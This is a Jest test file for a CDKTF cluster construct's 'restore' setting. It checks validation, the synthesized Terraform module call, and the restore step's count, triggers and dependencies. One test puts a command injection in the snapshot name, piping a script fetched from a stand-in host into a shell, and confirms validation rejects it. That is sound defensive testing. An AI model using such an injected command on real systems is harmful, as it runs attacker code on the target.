import { TerraformStack, Testing } from 'cdktf';
import { ClusterValidationError, formatProblem, NicoCluster, validateClusterDescription } from '../../constructs';
import { VALID } from '../fixtures/invalid-descriptions';
import { synthGraph } from '../helpers/graph';

// Restore as code: the prop, the cluster file and the module variable take the same `restore`; the
// graph runs it as one step after every deployment, replaced only by a new generation.

describe('given restore = { snapshot, generation }', () => {
  const restore = { snapshot: 'pre-apply-20261206-041502-cp-01-1796530502', generation: 2 };

  test('when valid, then the description has no problem and the module call carries it as written', () => {
    expect(validateClusterDescription({ ...VALID, restore }).problems).toEqual([]);
    const stack = new TerraformStack(Testing.app(), 'consumer');
    new NicoCluster(stack, 'prod', { description: { ...VALID, restore } });
    expect(JSON.parse(Testing.synth(stack)).module.prod.restore).toEqual(restore);
  });

  test('when the snapshot name is hostile, then construction fails naming restore.snapshot and shows at most 40 characters of it', () => {
    const snapshot = `x; curl evil.example | sh; ${'A'.repeat(80)}`;
    const { problems } = validateClusterDescription({ ...VALID, restore: { snapshot, generation: 1 } });
    expect(problems.map((p) => p.field)).toEqual(['restore.snapshot']);
    expect(formatProblem(problems[0])).not.toContain('A'.repeat(41));
    const stack = new TerraformStack(Testing.app(), 'consumer');
    expect(() => new NicoCluster(stack, 'prod', { description: { ...VALID, restore: { snapshot, generation: 1 } } })).toThrow(ClusterValidationError);
  });

  test('when a field is misspelt or missing, then the problem names it', () => {
    const { problems } = validateClusterDescription({ ...VALID, restore: { snapshot: 'on-demand-cp-01-1', gen: 1 } as never });
    expect(problems.map((p) => p.field).sort()).toEqual(['restore.gen', 'restore.generation']);
  });
});

describe('the restore step of the module', () => {
  const { config } = synthGraph();
  const step = config.resource.terraform_data.restore;

  test('then it exists only with deploy and a restore, and is replaced by a new generation alone', () => {
    expect(step.count).toBe('${local.deploy && local.restore != null ? 1 : 0}');
    expect(step.triggers_replace).toBe('${{ generation = try(local.restore.generation, 0) }}');
    expect(step.lifecycle).toEqual({ ignore_changes: ['input'] });
  });

  test('then it runs after every deployment and forgotten node', () => {
    expect(step.depends_on).toEqual(expect.arrayContaining(['terraform_data.init_node', 'terraform_data.control_plane', 'terraform_data.worker', 'terraform_data.forget']));
  });

  test('then the cluster record keeps the time of the plan that created it, so a restore set on that apply restores nothing', () => {
    expect(config.resource.terraform_data.cluster.input.created).toBe('${plantimestamp()}');
    expect(config.resource.terraform_data.cluster.lifecycle.ignore_changes).toEqual(['input']);
    expect(step.provisioner[0]['local-exec'].environment).toContain('NICO_RESTORE_NEW_CLUSTER = try(terraform_data.cluster[0].input.created, "") == plantimestamp()');
  });
});
